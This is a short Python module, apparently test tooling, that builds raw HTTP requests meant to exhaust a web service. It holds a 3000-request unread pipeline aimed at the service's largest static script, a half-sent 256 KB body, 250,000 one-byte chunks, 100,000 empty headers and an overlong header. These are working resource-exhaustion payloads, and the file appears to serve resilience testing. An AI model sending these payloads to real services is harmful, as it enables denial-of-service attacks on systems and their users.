"""Clients that try to exhaust a service. Each reads none of its answers."""

from __future__ import annotations

import re
from collections.abc import Callable

import httpx

HEAD = b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"


def unread_pipeline(file: bytes) -> bytes:
    return (b"GET %b HTTP/1.1\r\nHost: x\r\n\r\n" % file) * 3000


def half_body(_: bytes) -> bytes:
    return HEAD + b"Content-Length: 262144\r\n\r\n" + b"x" * 250_000


def one_byte_chunks(_: bytes) -> bytes:
    return HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 250_000


def many_headers(_: bytes) -> bytes:
    return b"GET / HTTP/1.1\r\nHost: x\r\n" + b"a:\r\n" * 100_000


def long_header(_: bytes) -> bytes:
    return b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"y" * 32_000


def nothing(_: bytes) -> bytes:
    return b""


WAYS: tuple[Callable[[bytes], bytes], ...] = (
    unread_pipeline,
    half_body,
    one_byte_chunks,
    many_headers,
    long_header,
    nothing,
)


def largest_file(url: str) -> bytes:
    """Return the path of the largest script that the service gives to anybody."""
    found = re.findall(r'"(/static/[^"]+\.js)"', httpx.get(url + "/docs").text)
    largest: str = max(found, key=lambda name: len(httpx.get(url + name).content))
    return largest.encode()
